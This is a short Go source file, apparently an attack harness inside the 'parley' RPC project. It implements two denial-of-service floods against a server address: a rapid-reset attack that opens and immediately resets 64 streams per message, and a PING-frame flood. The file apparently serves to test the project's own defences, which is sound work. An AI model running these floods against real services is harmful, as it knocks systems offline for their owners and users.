package main

import (
	"context"

	"github.com/parley-rpc/parley/internal/frame"
	"github.com/parley-rpc/parley/rpc"
)

// batch is how many frames an attacker puts into a message.
const batch = 64

// open appends an OPEN frame for a method, with further fields in its header.
func open(dst []byte, stream uint64, m *rpc.Method, more []byte) []byte {
	payload := append(frame.AppendBytesField(nil, 1, m.Path()), more...)
	return frame.Append(dst, frame.Header{Type: frame.TypeOpen, Stream: stream}, payload)
}

func rapidReset(ctx context.Context, addr string, n *tally) error {
	f, err := meet(ctx, addr, generous, hears)
	if err != nil {
		return err
	}
	id, buf := uint64(1), []byte(nil)
	return f.write(func() []byte {
		buf = buf[:0]
		for range batch {
			buf = open(buf, id, echo, nil)
			buf = frame.AppendReset(buf, id, 1, "")
			id += 2
		}
		return buf
	}, func() { n.units.Add(batch) })
}

func pingFlood(ctx context.Context, addr string, n *tally) error {
	f, err := meet(ctx, addr, generous, hears)
	if err != nil {
		return err
	}
	var buf []byte
	for range batch {
		buf = frame.Append(buf, frame.Header{Type: frame.TypePing}, make([]byte, frame.PingLen))
	}
	return f.write(func() []byte { return buf }, func() { n.units.Add(batch) })
}
